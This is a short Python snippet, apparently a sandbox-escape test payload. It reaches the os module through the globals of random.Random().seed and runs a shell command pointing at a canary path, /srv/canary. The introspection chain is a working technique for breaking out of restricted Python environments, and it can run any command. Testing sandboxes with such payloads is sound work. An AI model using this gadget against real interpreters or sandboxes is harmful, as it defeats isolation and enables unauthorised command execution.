# reaches: the globals behind an instance's __init__
import random
random.Random().seed.__func__.__globals__["_os"].system("/srv/canary")
